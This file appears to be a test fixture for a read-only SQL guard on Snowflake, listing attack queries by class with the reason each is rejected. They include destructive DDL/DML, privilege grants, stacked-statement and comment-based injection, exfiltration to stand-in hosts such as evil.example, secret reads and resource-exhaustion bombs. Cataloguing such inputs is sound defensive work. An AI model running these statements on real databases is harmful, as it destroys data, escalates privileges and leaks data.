-- class: dml_direct
-- reason: changes_data
UPDATE ship SET flag = 'XX' FROM crew WHERE crew.ship_id = ship.id
-- reason: changes_data
INSERT OVERWRITE INTO ship SELECT * FROM ship
-- reason: changes_data
INSERT FIRST WHEN id > 1 THEN INTO ship (id) VALUES (id) SELECT id FROM crew
-- class: truncate
-- reason: changes_data
TRUNCATE TABLE IF EXISTS ship
-- reason: changes_data
TRUNCATE crew
-- class: ddl_direct
-- reason: changes_data
CREATE OR REPLACE TRANSIENT TABLE copied AS SELECT * FROM crew
-- reason: changes_data
UNDROP TABLE ship
-- reason: changes_data
ALTER TABLE ship DROP COLUMN name
-- class: ddl_code_object
-- reason: changes_data, not_parsed
CREATE PROCEDURE p() RETURNS STRING LANGUAGE JAVASCRIPT AS $$ return 'x' $$
-- reason: changes_data, not_parsed
CREATE STREAM s ON TABLE ship
-- reason: changes_data, not_parsed
CREATE PIPE p AS COPY INTO ship FROM @st
-- class: dcl
-- reason: changes_data
GRANT ALL PRIVILEGES ON SCHEMA public TO ROLE public
-- reason: changes_data
GRANT ROLE accountadmin TO USER me
-- reason: changes_data, not_parsed
CREATE USER ghost PASSWORD = 'x'
-- class: role_change
-- reason: changes_data
USE ROLE securityadmin
-- reason: changes_data
USE WAREHOUSE huge
-- class: session_config_change
-- reason: changes_data
ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0
-- reason: changes_data
SET (a, b) = (1, 2)
-- reason: not_a_read
UNSET tenant
-- class: scripting_block
-- reason: changes_data, not_parsed
BEGIN LET x INT := 1; DELETE FROM ship; RETURN x; END
-- reason: changes_data, not_parsed, not_a_read
DECLARE r RESULTSET; BEGIN r := (SELECT 1); RETURN TABLE(r); END
-- class: dynamic_sql
-- reason: not_a_read, changes_data, not_parsed
EXECUTE IMMEDIATE 'DELETE FROM ship'
-- reason: not_a_read, changes_data, not_parsed
EXECUTE IMMEDIATE FROM @st/script.sql
-- class: stored_proc_call
-- reason: not_a_read, changes_data, not_parsed
CALL purge('ship')
-- reason: not_a_read, changes_data, not_parsed
CALL SYSTEM$SEND_EMAIL('i', 'x@evil.example', 's', 'b')
-- class: cloud_storage_export
-- reason: changes_data, not_parsed
COPY INTO @~/out FROM (SELECT * FROM crew)
-- reason: changes_data, not_parsed
COPY INTO 'azure://evil.blob.core.windows.net/c' FROM ship STORAGE_INTEGRATION = i
-- class: file_import_statement
-- reason: changes_data, not_parsed
COPY INTO ship FROM 's3://evil/x.csv' FILE_FORMAT = (TYPE = CSV)
-- reason: changes_data, not_parsed
COPY INTO crew FROM @%crew
-- class: file_write_statement
-- reason: changes_data, not_parsed, not_a_read
PUT file:///tmp/x @st
-- reason: changes_data, not_parsed, not_a_read
GET @st file:///tmp/
-- reason: not_a_read, changes_data, not_parsed
RM @~/x
-- class: file_list_function
-- reason: not_a_read, changes_data, not_parsed
LIST @st
-- reason: construct_not_allowed, file_or_address, function_not_allowed
SELECT relative_path FROM DIRECTORY(@st)
-- class: file_read_function
-- reason: file_or_address, placeholder
SELECT t.$1 FROM @st (FILE_FORMAT => 'csv') t
-- reason: function_not_allowed, construct_not_allowed, file_or_address, not_parsed, placeholder
SELECT * FROM TABLE(INFER_SCHEMA(LOCATION => '@st', FILE_FORMAT => 'f'))
-- reason: function_not_allowed
SELECT BUILD_SCOPED_FILE_URL('@st', 'x.pdf')
-- class: network_egress
-- reason: changes_data, not_parsed
CREATE NETWORK RULE r TYPE = HOST_PORT MODE = EGRESS VALUE_LIST = ('evil.example')
-- reason: function_not_allowed, user_function
SELECT SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x', 'y')
-- class: llm_cost_function
-- reason: user_function, function_not_allowed
SELECT SNOWFLAKE.CORTEX.SUMMARIZE(note) FROM voyage
-- reason: function_not_allowed
SELECT AI_COMPLETE('m', name) FROM ship
-- class: sequence_side_effect
-- reason: unknown_alias, unknown_column
SELECT ship_seq.NEXTVAL
-- reason: function_not_allowed
SELECT n.nextval FROM TABLE(GETNEXTVAL(ship_seq)) n
-- class: sql_in_string
-- reason: function_not_allowed, unknown_table, file_or_address
SELECT code FROM IDENTIFIER('vault')
-- reason: file_or_address, function_not_allowed, unknown_table
SELECT * FROM TABLE('harbour.public.vault')
-- reason: function_not_allowed
SELECT * FROM TABLE(TO_QUERY('SELECT * FROM vault'))
-- reason: placeholder
SELECT * FROM IDENTIFIER($name)
-- class: result_reuse
-- reason: function_not_allowed
SELECT * FROM TABLE(RESULT_SCAN('01a2-b3'))
-- reason: function_not_allowed
SELECT LAST_QUERY_ID(-2)
-- reason: not_a_read, several_statements, not_parsed, changes_data, placeholder
SELECT 1 ->> SELECT * FROM $1
-- class: server_admin
-- reason: function_not_allowed, user_function
SELECT SYSTEM$CANCEL_QUERY('01a2')
-- reason: not_a_read, changes_data, not_parsed
ALTER WAREHOUSE w SUSPEND
-- reason: changes_data, not_parsed
ALTER ACCOUNT SET PERIODIC_DATA_REKEYING = TRUE
-- class: session_kill
-- reason: function_not_allowed
SELECT SYSTEM$ABORT_SESSION(id) FROM ship
-- reason: function_not_allowed
SELECT SYSTEM$CANCEL_ALL_QUERIES(77)
-- class: sleep_delay
-- reason: function_not_allowed
SELECT SYSTEM$WAIT(5, 'MINUTES')
-- reason: not_a_read, changes_data, not_parsed
CALL SYSTEM$WAIT(60)
-- class: cross_database_access
-- reason: other_database
SELECT * FROM snowflake.account_usage.query_history
-- reason: other_database, unknown_table
SELECT s.name FROM ship s JOIN otherdb.public.crew c ON c.id = s.id
-- class: catalog_enumeration
-- reason: not_a_read
SHOW GRANTS TO ROLE sysadmin
-- reason: system_catalog
SELECT * FROM information_schema.columns
-- reason: function_not_allowed
SELECT GET_DDL('TABLE', 'vault')
-- reason: not_a_read
DESC TABLE vault
-- class: secret_read
-- reason: function_not_allowed
SELECT CURRENT_ACCOUNT(), CURRENT_IP_ADDRESS()
-- reason: not_a_read
SHOW PARAMETERS IN ACCOUNT
-- class: ungranted_table
-- reason: unknown_table
SELECT $1 FROM vault
-- reason: unknown_table
SELECT OBJECT_CONSTRUCT(*) FROM public.vault
-- reason: unknown_table
SELECT * FROM ship MINUS SELECT id, code, NULL, NULL, NULL, NULL FROM "VAULT"
-- reason: unknown_table
SELECT f.value FROM vault, LATERAL FLATTEN(INPUT => PARSE_JSON(code)) f
-- class: error_based_exfil
-- reason: unknown_table
SELECT (SELECT code FROM vault)::INT
-- reason: unknown_table
SELECT PARSE_JSON((SELECT code FROM vault))
-- class: explain_leak
-- reason: unknown_table
EXPLAIN USING TEXT SELECT * FROM vault WHERE code > 'm'
-- reason: explain_runs
EXPLAIN UPDATE ship SET flag = 'x'
-- class: column_mask_bypass
-- reason: placeholder
SELECT $5, $6 FROM crew
-- reason: unknown_column
SELECT name FROM crew QUALIFY ROW_NUMBER() OVER (ORDER BY pay DESC) = 1
-- reason: unknown_column
SELECT c:email FROM (SELECT OBJECT_CONSTRUCT('email', email) AS c FROM crew)
-- class: rls_bypass
-- reason: construct_not_allowed
SELECT * FROM voyage AT (OFFSET => -3600)
-- reason: construct_not_allowed
SELECT * FROM voyage CHANGES (INFORMATION => DEFAULT) AT (TIMESTAMP => '2024-01-01'::TIMESTAMP)
-- reason: construct_not_allowed
SELECT v.* FROM voyage BEFORE (STATEMENT => '01a2') v
-- class: recursive_cte_bomb
-- reason: unbounded_recursion
WITH t (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT COUNT(*) FROM t
-- reason: construct_not_allowed
SELECT LEVEL FROM ship START WITH id = 1 CONNECT BY LEVEL < 99999999
-- class: series_bomb
-- reason: series_too_long
SELECT COUNT(*) FROM TABLE(GENERATOR(ROWCOUNT => 9000000000))
-- reason: series_too_long
SELECT COUNT(*) FROM TABLE(GENERATOR(TIMELIMIT => 3600))
-- reason: series_too_long
SELECT ARRAY_SIZE(ARRAY_GENERATE_RANGE(0, 900000000))
-- class: cartesian_bomb
-- reason: unconnected_tables
SELECT COUNT(*) FROM voyage a, voyage b, voyage c, crew d
-- reason: series_too_long
SELECT COUNT(*) FROM TABLE(GENERATOR(ROWCOUNT => 100000)) a, TABLE(GENERATOR(ROWCOUNT => 100000)) b
-- class: memory_bomb
-- reason: text_too_long
SELECT LENGTH(RPAD('x', 100000000, 'y'))
-- reason: text_too_long
SELECT RANDSTR(90000000, RANDOM()) FROM ship
-- class: cost_bomb
-- reason: too_many_joins
SELECT 1 FROM ship a, ship b, ship c, ship d, ship e, ship f, ship g, ship h, ship i, ship j, ship k, ship l, ship m, ship n WHERE a.id = b.id
-- reason: function_not_allowed
SELECT * FROM TABLE(SAMPLE_EVERYTHING())
-- class: pattern_dos
-- reason: pattern_too_complex
SELECT REGEXP_COUNT(note, '(a*)*b') FROM voyage
-- reason: pattern_too_complex
SELECT RLIKE(note, '((x|y)+)+z') FROM voyage
-- class: limit_evasion
-- reason: limit_not_a_number
SELECT * FROM ship LIMIT (SELECT 9999999)
-- reason: placeholder, limit_not_a_number
SELECT TOP $n * FROM ship
-- class: multi_statement
-- reason: several_statements
SELECT 1; DROP TABLE ship
-- reason: several_statements
SELECT name FROM ship; ALTER SESSION SET x = 1
-- class: dollar_quote
-- reason: several_statements
SELECT $$ a $$; DROP TABLE ship; SELECT $$ b $$
-- reason: several_statements
SELECT $$ ' $$; DELETE FROM ship --'
-- class: string_escape_differential
-- reason: several_statements
SELECT 'a\\'; DROP TABLE ship; --'
-- reason: several_statements
SELECT $$a\$$; DELETE FROM ship; --$$
-- class: txn_escape
-- reason: changes_data
BEGIN TRANSACTION
-- reason: changes_data
COMMIT WORK
-- class: comment_hidden_statement
-- reason: changes_data
// SELECT 1
DELETE FROM ship
-- reason: several_statements
SELECT 1 // x
; DROP TABLE ship
-- class: client_meta_command
-- reason: client_command
!set variable_substitution=true
-- reason: client_command
!spool out.txt
-- class: udf_side_effect
-- reason: user_function
SELECT surcharge(fare) FROM voyage
-- reason: user_function, function_not_allowed
SELECT * FROM TABLE(public.purge(1))
